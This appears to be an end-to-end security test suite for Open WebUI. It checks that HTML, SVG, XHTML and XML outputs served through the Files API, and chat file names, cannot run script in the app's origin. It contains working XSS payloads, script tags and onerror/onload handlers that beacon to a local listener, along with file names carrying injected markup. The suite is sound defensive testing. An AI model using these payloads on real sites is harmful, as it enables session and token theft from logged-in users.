"""Active content: a published .html, .svg, .xhtml or .xml must not run script in Open WebUI's origin, on
any route of Open WebUI's Files API, nor may file names run in the chat page.

Published outputs are Open WebUI files, served at /api/v1/files/<id>/content (also /content/<name>,
/content?attachment=true, and /content/html, which serves admin-owned files inline with a type guessed
from the stored name). A script running on Open WebUI's origin would act as the logged-in user (the token
is in localStorage and in the cookie). The files here are written by a chat of the ADMIN user, the
dangerous case. The browser is real (headless Chromium), logged in like a user, and a listener on
127.0.0.1 catches any call a script makes.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Response

from tests.support.open_webui import LINK, Account, OpenWebUI, Reply

pytestmark = [pytest.mark.e2e, pytest.mark.runsc, pytest.mark.browser]

# name in /mnt/data -> (the type it really is, the name Open WebUI's downloads carry)
ACTIVE = {
    "page.html": ("text/html", "page.html"),
    "logo.svg": ("image/svg+xml", "logo.svg.txt"),
    "page.xhtml": ("application/xhtml+xml", "page.xhtml"),
    "feed.xml": ("application/xml", "feed.xml"),
}
HIDDEN = "pic.png"  # HTML behind an image name: served as image/png, which a browser never parses as HTML
ROUTES = ("/content", "/content/{name}", "/content/html", "/content?attachment=true")
RENDERS_ACTIVELY = ("text/html", "image/svg+xml", "application/xhtml+xml")


class Listener:
    """Records where every script that ran was (its location.href), and serves the payloads as what
    they are, to show that they do run when a browser renders them."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.pages: dict[str, tuple[str, bytes]] = {}
        hits, pages = self.hits, self.pages

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                url = urlsplit(self.path)
                if url.path in pages:
                    kind, body = pages[url.path]
                    self.send_response(200)
                    self.send_header("Content-Type", kind)
                    self.end_headers()
                    self.wfile.write(body)
                    return
                if url.path != "/ran":  # the browser's own requests (favicon.ico, the payload's <img>)
                    self.send_response(404)
                    self.end_headers()
                    return
                hits.append(parse_qs(url.query).get("at", ["?"])[0])
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def ran_on(self, origin: str) -> list[str]:
        return [at for at in self.hits if at.startswith(origin)]

    def ran_elsewhere(self) -> list[str]:
        """Scripts that ran anywhere but on the listener's own control pages."""
        return [at for at in self.hits if not at.startswith(self.url + "/control/")]


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.server.shutdown()


def logged_in(browser: Browser, server: OpenWebUI, account: Account) -> BrowserContext:
    """A browser session of the user: the `token` cookie (what the Files API reads when a tab opens a
    link) and localStorage (what the app sends)."""
    context = browser.new_context(accept_downloads=True)
    context.add_cookies([{"name": "token", "value": account.token, "url": server.url}])
    context.add_init_script(f"localStorage.setItem('token', {account.token!r})")
    return context


def watch(page: Page) -> tuple[list[str], list[str]]:
    dialogs: list[str] = []
    downloads: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("download", lambda download: downloads.append(download.url))
    return dialogs, downloads


def payloads(listener: Listener) -> dict[str, str]:
    script = (
        f"document.title='pwned';fetch('{listener.url}/ran?at='+encodeURIComponent(location.href));"
        "alert('pwned')"
    )
    attribute = script.replace("'", "&apos;")
    return {
        "page.html": f'<html><body><script>{script}</script><img src=x onerror="{script}"></body></html>',
        "logo.svg": (
            f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attribute}">'
            f"<script>{script}</script><circle r='5'/></svg>"
        ),
        "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{script}</script></html>',
        "feed.xml": (
            '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
            f"<body><script>{script}</script></body></html>"
        ),
        HIDDEN: f"<html><script>{script}</script></html>",
    }


@pytest.fixture(scope="module")
def hostile_answer(open_webui: OpenWebUI, listener: Listener) -> Reply:
    files = payloads(listener)
    names = ["<img src=x onerror=alert(document.domain)>.txt", "<svg onload=alert(1)>.csv"]
    make = "files = " + repr(files) + "\nfor name, text in files.items():\n    open(name, 'w').write(text)\n"
    make += "for name in " + repr(names) + ":\n    open(name, 'w').write('x')\n"
    reply = (
        "Page: /mnt/data/page.html Logo: ![logo](/mnt/data/logo.svg) "
        "Doc: /mnt/data/page.xhtml Feed: /mnt/data/feed.xml Pic: ![pic](/mnt/data/pic.png)"
    )
    return open_webui.admin.say(f"```python\n{make}```\nreply: {reply}")


def urls_of(answer: Reply) -> dict[str, str]:
    """{name in /mnt/data: its Files API link}, from the answer's last line."""
    reply = answer.content.splitlines()[-1]
    found = [LINK.search(part).group(0) for part in reply.split("](")[1:]]
    return dict(zip(["page.html", "logo.svg", "page.xhtml", "feed.xml", HIDDEN], found, strict=True))


def route_urls(link: str, name: str) -> list[str]:
    base = link.removesuffix("/content")
    return [base + route.format(name=name) for route in ROUTES]


def shown_actively(kind: str, disposition: str) -> bool:
    """A response the browser would render as a document that may run script."""
    kind = kind.split(";")[0].strip().lower()
    active = kind in RENDERS_ACTIVELY or "xml" in kind
    return active and not disposition.lower().startswith("attachment")


def test_the_payloads_run_when_a_browser_renders_them(browser: Browser, listener: Listener):
    """The control: served as what they are (by the listener, not Open WebUI), every payload's script
    runs and calls the listener, so the checks below would see a script that ran."""
    for name, text in payloads(listener).items():
        if name in ACTIVE:
            listener.pages[f"/control/{name}"] = (ACTIVE[name][0], text.encode())
    context = browser.new_context()
    page = context.new_page()
    dialogs, _ = watch(page)
    for name in ACTIVE:
        url = f"{listener.url}/control/{name}"
        page.goto(url, wait_until="load", timeout=15_000)
        for _ in range(50):
            if listener.ran_on(url):
                break
            page.wait_for_timeout(100)
        assert listener.ran_on(url), (name, listener.hits)
    assert len(dialogs) >= len(ACTIVE)
    context.close()


def test_every_files_api_route_serves_them_as_downloads(
    open_webui: OpenWebUI, hostile_answer: Reply, listener: Listener
):
    """Naive: the copy keeps its own type, so /content/html (the stored name's type, for admin-owned
    files) or /content (the recorded type) serves text/html or image/svg+xml inline."""
    admin = open_webui.admin
    assert "![logo]" not in hostile_answer.content  # an SVG is never shown inline
    texts = payloads(listener)  # what the answer's code wrote
    for name, link in urls_of(hostile_answer).items():
        record = admin.get(link.removesuffix("/content")).json()
        assert record["user_id"] == admin.user_id  # the admin's file: /content/html serves it
        for url in route_urls(link, name):
            response = admin.download(url)
            assert response.status_code == 200, (url, response.text[:200])
            assert response.content == texts[name].encode(), url
            kind = response.headers["content-type"]
            disposition = response.headers.get("content-disposition")
            if name == HIDDEN:
                assert kind == "image/png", (url, kind)  # a passive image, never parsed as HTML
            else:
                assert kind == "application/octet-stream", (url, kind)
            if url.endswith("/content/html"):
                assert disposition is None, (url, disposition)  # Open WebUI sets none on this route
            else:
                expected = ACTIVE[name][1] if name in ACTIVE else name
                assert disposition == f"attachment; filename*=UTF-8''{expected}", (url, disposition)
            assert not shown_actively(kind, disposition or ""), (url, kind, disposition)


def test_opening_every_route_in_the_browser_runs_no_script(
    browser: Browser, open_webui: OpenWebUI, hostile_answer: Reply, listener: Listener
):
    """Naive: the browser navigates to a published page and its script runs with the user's token."""
    context = logged_in(browser, open_webui, open_webui.admin)
    page = context.new_page()
    dialogs, downloads = watch(page)
    responses: list[Response] = []
    page.on("response", lambda r: responses.append(r) if "/api/v1/files/" in r.url else None)
    opened: list[str] = []
    for name, link in urls_of(hostile_answer).items():
        for url in route_urls(link, name):
            opened.append(open_webui.url + url)
            try:
                page.goto(open_webui.url + url, wait_until="load", timeout=15_000)
            except Error as error:  # an attachment: Chromium downloads it instead of opening it
                assert "Download is starting" in str(error) or "ERR_ABORTED" in str(error), error
            page.wait_for_timeout(300)
            assert page.title() != "pwned", url
    page.wait_for_timeout(1000)
    assert dialogs == [] and listener.ran_elsewhere() == []
    assert sorted({r.url for r in responses}) == sorted(opened)
    for response in responses:
        assert response.status == 200, response.url
        kind = response.headers.get("content-type", "")
        disposition = response.headers.get("content-disposition", "")
        assert not shown_actively(kind, disposition), (response.url, kind, disposition)
    # All downloads but one: pic.png on /content/html, an image/png shown as a (broken) image.
    hidden_inline = route_urls(urls_of(hostile_answer)[HIDDEN], HIDDEN)[2]
    assert sorted(downloads) == sorted(url for url in opened if url != open_webui.url + hidden_inline)
    context.close()


def test_the_chat_page_shows_hostile_names_as_text_and_its_chips_run_nothing(
    browser: Browser, open_webui: OpenWebUI, hostile_answer: Reply, listener: Listener
):
    """Naive: a file named <img onerror=...> is pasted into the answer's markdown and runs in the chat, or a
    chip's dialog previews a hostile file as a page."""
    context = logged_in(browser, open_webui, open_webui.admin)
    page = context.new_page()
    dialogs, _ = watch(page)
    page.goto(f"{open_webui.url}/c/{hostile_answer.chat_id}")
    page.get_by_text("onerror=alert(document.domain)", exact=False).first.wait_for(timeout=60_000)
    page.keyboard.press("Escape")  # the admin's "What's new" dialog, which covers the chat
    page.get_by_role("dialog").first.wait_for(state="detached", timeout=10_000)
    # Each file of the answer is a chip under it: open each one's dialog and its preview.
    messages = open_webui.admin.get(f"/api/v1/chats/{hostile_answer.chat_id}").json()["chat"]["history"]
    chips = [item["name"] for item in messages["messages"][hostile_answer.message_id]["files"]]
    assert {"page.html", "logo.svg.txt", "page.xhtml", "feed.xml"} <= set(chips), chips
    answer = page.locator(f"#message-{hostile_answer.message_id}")
    for name in chips:
        answer.locator("button", has_text=name).first.click()
        dialog = page.get_by_role("dialog")
        dialog.wait_for(timeout=10_000)
        preview = dialog.get_by_role("button", name="Preview")
        if preview.count():
            preview.click()
        page.wait_for_timeout(500)
        page.keyboard.press("Escape")
        dialog.wait_for(state="detached", timeout=10_000)
    page.wait_for_timeout(500)
    assert dialogs == [] and listener.ran_elsewhere() == []
    assert page.title() != "pwned"
    context.close()
